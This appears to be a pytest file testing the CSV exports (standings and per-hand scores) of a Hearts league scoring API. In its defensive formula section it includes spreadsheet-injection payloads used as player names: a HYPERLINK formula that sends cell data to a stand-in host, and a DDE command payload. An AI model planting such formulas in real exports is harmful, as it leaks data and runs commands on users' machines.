"""CSV of a table (``?format=csv``) and of a league's hands (hands.csv), parsed back."""

from __future__ import annotations

import csv
import io

import pytest

from hearts_site.text.csv_files import csv_cell
from scoring.api.renderers import STANDINGS_COLUMNS
from scoring.selectors.standings import HAND_COLUMNS

from .support import single_hand_league, standings_url, table_of

INTEGERS = ("player", "games", "wins", "total_points", "hands", "moons", "queens", "clean_hands")
FLOATS = ("win_rate", "average_place", "points_per_game", "points_per_hand", "rating")


def parse(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content) if response.streaming else response.content
    reader = csv.DictReader(io.StringIO(text.decode("utf-8"), newline=""))
    rows = list(reader)
    return reader.fieldnames, rows


def test_the_table_as_csv_has_a_header_and_one_row_per_player_with_numbers(api, qq_league):
    response = api.get(standings_url(qq_league.league, "format=csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, rows = parse(response)
    assert header == STANDINGS_COLUMNS
    json_rows = table_of(api, qq_league.league)["rows"]
    assert [r["name"] for r in rows] == [r["name"] for r in json_rows]
    for row, expected in zip(rows, json_rows, strict=True):
        assert int(row["rank"]) == expected["rank"]
        for column in INTEGERS:
            assert int(row[column]) == expected[column]
        for column in FLOATS:
            assert float(row[column]) == expected[column]
        assert int(row["gems"]) == expected["gems"]
        assert row["provisional"] == "False"
        assert row["separated_by"] == (expected["separated_by"] or "")


def test_the_table_as_csv_by_accept_header_with_provisional_rows_left_blank(api, owner):
    from .support import single_hand_league

    league = single_hand_league(
        owner,
        "csv",
        ["P", "Q", "R", "S", "T"],
        [[("P", 1), ("Q", 2), ("R", 3), ("S", 4)], [("P", 2), ("Q", 1), ("R", 4), ("T", 3)]],
        ranking={"min_games": 2},
    )
    response = api.get(standings_url(league.league), HTTP_ACCEPT="text/csv")
    assert response["Content-Type"].startswith("text/csv")
    _, rows = parse(response)
    assert len(rows) == 5
    provisional = [r for r in rows if r["provisional"] == "True"]
    assert sorted(r["name"] for r in provisional) == ["S", "T"]
    assert {r["rank"] for r in provisional} == {""}
    assert {r["gems"] for r in rows} == {""}  # standard has no gems


def test_an_error_asked_for_as_csv_keeps_the_one_json_error_body(api, qq_league):
    response = api.get(standings_url(qq_league.league, "format=csv&colour=red"))
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    error = response.json()["errors"][0]
    assert (error["code"], error["attr"]) == ("unknown_field", "colour")


def test_hands_csv_has_one_row_per_seat_of_each_non_void_hand_of_finished_games(api, qq_league):
    response = api.get(f"/api/v1/leagues/{qq_league.league.pk}/hands.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, rows = parse(response)
    assert header == HAND_COLUMNS
    # Games 1, 2 and 3 have 2, 3 and 2 non-void hands; the voided hand, the abandoned game
    # and the game in progress are left out.
    assert len(rows) == (2 + 3 + 2) * 4
    g1, g2, g3 = (g.pk for g in qq_league.games)
    assert sorted({(int(r["game"]), int(r["hand"])) for r in rows}) == [
        (g1, 1),
        (g1, 2),
        (g2, 1),
        (g2, 2),
        (g2, 3),
        (g3, 2),
        (g3, 3),
    ]
    hands: dict[tuple[int, int], list[dict]] = {}
    for row in rows:
        hands.setdefault((int(row["game"]), int(row["hand"])), []).append(row)
        int(row["player"]), int(row["seat"]), int(row["points"]), int(row["score"])
        assert row["finished_at"].startswith("2026-")
    for seats in hands.values():
        assert [int(r["seat"]) for r in seats] == [0, 1, 2, 3]
        assert sum(int(r["points"]) for r in seats) == 26
    moon = hands[(g2, 1)]
    assert [(r["name"], int(r["points"]), int(r["score"])) for r in moon] == [
        ("Ben", 0, 0),
        ("Cleo", 26, -26),
        ("Dev", 0, 0),
        ("Ada", 0, 0),
    ]
    totals: dict[str, int] = {}
    for row in rows:
        totals[row["name"]] = totals.get(row["name"], 0) + int(row["score"])
    assert totals == {"Ada": 2, "Ben": 45, "Cleo": -1, "Dev": 84}


# --- CSV as its own operation: standings.csv ----------------------------------------------------


def test_standings_csv_is_the_same_table_as_format_csv(api, qq_league):
    league = qq_league.league
    own = api.get(f"/api/v1/leagues/{league.pk}/standings.csv")
    assert own.status_code == 200
    assert own["Content-Type"].startswith("text/csv")
    assert parse(own) == parse(api.get(standings_url(league, "format=csv")))
    club = api.get(f"/api/v1/clubs/{league.club_id}/standings.csv?from=2026-01-01")
    assert club.status_code == 200
    assert club["Content-Type"].startswith("text/csv")
    header, rows = parse(club)
    assert header == STANDINGS_COLUMNS
    assert rows


def test_standings_csv_answers_csv_whatever_the_client_accepts(api, qq_league):
    url = f"/api/v1/leagues/{qq_league.league.pk}/standings.csv"
    for asked in ({"HTTP_ACCEPT": "application/json"}, {"data": {"format": "json"}}):
        response = api.get(url, **asked)
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize(
    "accept", ["text/csv", "text/csv; charset=utf-8", "application/json", "*/*", "image/png"]
)
def test_every_csv_answers_csv_whatever_the_client_accepts(api, qq_league, accept):
    league = qq_league.league
    for url in (
        f"/api/v1/leagues/{league.pk}/standings.csv",
        f"/api/v1/clubs/{league.club_id}/standings.csv",
        f"/api/v1/leagues/{league.pk}/hands.csv",
    ):
        response = api.get(url, HTTP_ACCEPT=accept)
        assert response.status_code == 200, (url, response.status_code)
        assert response["Content-Type"].startswith("text/csv")
        header, rows = parse(response)
        assert header and rows
    missing = api.get("/api/v1/leagues/999999/hands.csv", HTTP_ACCEPT=accept)
    assert missing.status_code == 404
    assert missing.json()["errors"][0]["code"] == "not_found"


def test_standings_csv_polled_with_its_etag_is_a_304_without_a_body(api, qq_league):
    url = f"/api/v1/leagues/{qq_league.league.pk}/standings.csv"
    first = api.get(url)
    again = api.get(url, HTTP_IF_NONE_MATCH=first["ETag"])
    assert again.status_code == 304
    assert again.content == b""
    # The JSON table is another representation: another ETag.
    assert api.get(standings_url(qq_league.league))["ETag"] != first["ETag"]


def test_standings_csv_errors_keep_the_one_json_error_body(api, qq_league):
    response = api.get(f"/api/v1/clubs/{qq_league.league.club_id}/standings.csv?season=1")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["errors"][0]["code"] == "season_not_for_club"
    missing = api.get("/api/v1/leagues/999999/standings.csv")
    assert missing.status_code == 404
    assert missing.json()["errors"][0]["code"] == "not_found"


# --- Formulas: a name a spreadsheet would run is written as text ---------------------------------

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]


def test_names_a_spreadsheet_would_run_are_quoted_in_every_csv_and_points_stay_numbers(api, owner):
    league = single_hand_league(
        owner, "formulas", FORMULA_NAMES, [[(n, i + 1) for i, n in enumerate(FORMULA_NAMES)]]
    )
    quoted = sorted(f"'{name}" for name in FORMULA_NAMES)
    for url in (
        f"/api/v1/leagues/{league.league.pk}/standings.csv",
        f"/api/v1/clubs/{league.league.club_id}/standings.csv",
        standings_url(league.league, "format=csv"),
    ):
        _, rows = parse(api.get(url))
        assert sorted(r["name"] for r in rows) == quoted
        assert sorted(int(r["total_points"]) for r in rows) == [0, 5, 8, 13]
    _, hands = parse(api.get(f"/api/v1/leagues/{league.league.pk}/hands.csv"))
    assert sorted(r["name"] for r in hands) == quoted
    assert sorted(int(r["points"]) for r in hands) == [0, 5, 8, 13]


def test_a_negative_score_in_hands_csv_is_written_as_a_number(api, qq_league):
    _, rows = parse(api.get(f"/api/v1/leagues/{qq_league.league.pk}/hands.csv"))
    assert "-26" in {r["score"] for r in rows}  # Cleo's moon: a number, not quoted text


def test_text_that_starts_a_formula_after_a_tab_or_return_is_quoted_too():
    assert [csv_cell(v) for v in ("\t=1+1", "\r=1+1", "Ann", "", None, -26, -1.5)] == [
        "'\t=1+1",
        "'\r=1+1",
        "Ann",
        "",
        "",
        -26,
        -1.5,
    ]
